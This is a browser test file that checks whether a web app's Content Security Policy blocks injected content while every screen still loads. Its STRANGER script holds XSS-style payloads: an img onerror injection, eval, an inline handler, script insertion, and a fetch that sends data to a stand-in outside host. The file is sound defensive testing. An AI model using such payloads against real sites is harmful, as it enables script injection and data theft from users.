/** ASVS 14.4: the built web app under the policy that the server sends with it, in a browser: nothing is refused that it needs, and what a stranger would put in is. */
import { existsSync, readFileSync } from 'node:fs';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { createAdaptorServer } from '@hono/node-server';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { createApp } from '../src/server/app.ts';
import { openDoorway } from '../src/server/doorway.ts';
import { GROUPS } from '../src/server/routes/index.ts';
import { type TestHouse, testHouse } from '../src/server/testing/house.ts';
import { launchChromium } from './chromium.ts';

const WEB = fileURLToPath(new URL('../dist/web', import.meta.url));
const TYPES = new Map([
  ['html', 'text/html; charset=utf-8'],
  ['js', 'text/javascript; charset=utf-8'],
  ['css', 'text/css; charset=utf-8'],
  ['svg', 'image/svg+xml'],
  ['woff2', 'font/woff2'],
]);

/** What a stranger would try; as a text, for it is the browser's. After the first pause it is the page that runs it, not the tool that drives it. */
const STRANGER = `(async () => {
  await new Promise((resolve) => setTimeout(resolve));
  const tried = {};
  const attempt = async (name, step) => {
    try {
      await step();
      tried[name] = 'done';
    } catch (error) {
      tried[name] = error.name;
    }
  };
  await attempt('markup', () => { document.body.innerHTML = '<img src=x onerror="globalThis.ran = 1">'; });
  await attempt('eval', () => new Function('globalThis.ran = 2')());
  await attempt('worker', () => new Worker('data:text/javascript,1'));
  await attempt('policy', () => trustedTypes.createPolicy('evil', {}));
  await attempt('send', () => fetch('https://elsewhere.example/?words'));
  await attempt('script', () => {
    const script = document.createElement('script');
    script.textContent = 'globalThis.ran = 3';
    document.body.append(script);
  });
  await attempt('handler', () => {
    const button = document.createElement('button');
    button.setAttribute('onclick', 'globalThis.ran = 4');
    button.click();
  });
  await new Promise((resolve) => setTimeout(resolve, 300));
  return { tried, ran: globalThis.ran ?? null };
})()`;

let given: TestHouse;
let server: Server;
let origin: string;
let browser: Browser;
let page: Page;
let refused: string[];
const closers: (() => Promise<unknown>)[] = [];

beforeAll(async () => {
  expect([WEB, existsSync(join(WEB, 'index.html'))], 'npm run build:web makes it').toEqual([WEB, true]);
  given = await testHouse();
  const doorway = await openDoorway({ ledger: join(tmpdir(), 'musnad-none'), host: '127.0.0.1', owner: 'أنا' });
  if (doorway.kind === 'refused') throw new Error(doorway.said.key);
  const app = createApp(given.house, GROUPS, { guard: doorway.guard });
  app.get('*', (c) => {
    const asked = join(WEB, c.req.path);
    const file = /\.\w+$/.test(asked) && existsSync(asked) ? asked : join(WEB, 'index.html');
    return c.body(readFileSync(file), 200, { 'content-type': TYPES.get(file.split('.').at(-1) ?? '') ?? 'text/plain' });
  });
  server = createAdaptorServer({ fetch: app.fetch }) as Server;
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  browser = await launchChromium();
  closers.push(
    () => given.ledger.close(),
    () => doorway.close(),
    () => browser.close(),
  );
});
afterAll(async () => {
  for (const close of closers.reverse()) await close();
  server.closeAllConnections();
  server.close();
});
beforeEach(async () => {
  await page?.close();
  page = await browser.newPage();
  refused = [];
  page.on('console', (said) => {
    if (/Content Security Policy|Trusted|violates/i.test(said.text())) refused.push(said.text());
  });
  page.on('pageerror', (error) => refused.push(String(error)));
});

test('every screen has what it needs', async () => {
  const screens = [
    '/',
    '/search?q=جسر',
    '/read',
    '/review',
    '/collections',
    '/alerts',
    '/feeds',
    '/export',
    '/settings',
    '/help',
  ];
  for (const path of [...screens, `/articles/${given.bridge}`]) {
    await page.goto(origin + path);
    await page.locator('main, [role=main]').first().waitFor();
    expect([path, refused]).toEqual([path, []]);
  }
});

test('a text is read in the browser: its thread starts, and imports what it needs', async () => {
  await page.goto(`${origin}/read`);
  await page
    .locator('textarea')
    .first()
    .fill('قال المحافظ كمال السعدي لصحيفة صدى البحر إن العمل في الميناء سيستأنف غدا.');
  await page.getByRole('button', { name: /^(اقرأ|Read)$/ }).click();
  await page
    .getByText(/تصريح واحد|1 statement/)
    .first()
    .waitFor();
  expect(refused).toEqual([]);
});

test('what a stranger puts into the page does nothing: no script, no handler, no eval, no frame, no word to another host', async () => {
  await page.goto(`${origin}/help`);
  await page.locator('main').first().waitFor();
  const outcome = (await page.evaluate(STRANGER)) as { tried: Record<string, string>; ran: unknown };
  expect(outcome.ran).toBeNull();
  for (const name of ['markup', 'eval', 'worker', 'policy', 'send', 'script'])
    expect([name, outcome.tried[name]]).not.toEqual([name, 'done']);
  const answer = await page.goto(origin);
  expect(answer?.headers()['x-frame-options']).toBe('DENY');
});
